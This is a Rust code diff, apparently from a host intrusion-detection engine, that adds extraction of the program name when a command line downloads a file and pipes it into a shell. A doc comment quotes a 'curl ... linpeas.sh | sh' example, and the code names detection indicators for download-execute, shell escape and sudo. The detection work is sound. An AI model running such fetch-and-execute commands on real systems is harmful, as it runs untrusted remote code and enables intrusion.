@@ -354,6 +354,11 @@ pub struct Context {
     pub remote: String,
     pub port: u32,
     pub path: String,
+    /// The program a download piped into a shell runs: the last part of
+    /// the URL's path without its extension (`linpeas` for
+    /// `curl http://h/linpeas.sh | sh`). Empty unless
+    /// `cmd_download_exec` fires.
+    pub fetched: String,
 }
 
 /// The features of one event.
@@ -618,6 +623,9 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
     placement(&mut v, ev, &who);
     let ancestors = ancestry(&mut v, h, &who, &mut ctx);
     let cmd = command_line(&mut v, ev, &who);
+    if v.0[Feature::from(CmdDerived::DownloadExec).slot()] != 0.0 {
+        ctx.fetched = fetched_program(&cmd.line);
+    }
     if let Some(Detail::Connect(c)) = &ev.detail {
         network(&mut v, h, l, ev, c, &who, ancestors, &mut ctx);
     }
@@ -781,6 +789,25 @@ const SHELL_ESCAPE: usize = indicator("cmd_shell_escape");
 const SUDO: usize = indicator("cmd_sudo");
 
 /// Command line: indicators, shape and what is derived from them.
+/// The name of the program the first URL of `line` fetches: its path's
+/// last part, lower-cased, up to its extension or any other punctuation
+/// (`LinEnum.sh` → `linenum`); empty when there is none.
+pub fn fetched_program(line: &str) -> String {
+    line.split(|c: char| c.is_whitespace() || c == '\'' || c == '"' || c == '(' || c == ')')
+        .filter_map(|t| t.split_once("://").map(|(_, rest)| rest))
+        .find_map(|rest| {
+            let path = rest.split(['?', '#']).next().unwrap_or(rest);
+            let (_, last) = path.split_once('/')?;
+            let name = last.rsplit('/').next().unwrap_or(last);
+            let name = name
+                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
+                .next()
+                .unwrap_or(name);
+            (!name.is_empty()).then(|| name.to_ascii_lowercase())
+        })
+        .unwrap_or_default()
+}
+
 fn command_line(v: &mut Vector, ev: &Event, who: &Subject) -> CommandLine {
     let cmd = match &ev.detail {
         Some(Detail::Exec(x)) => {
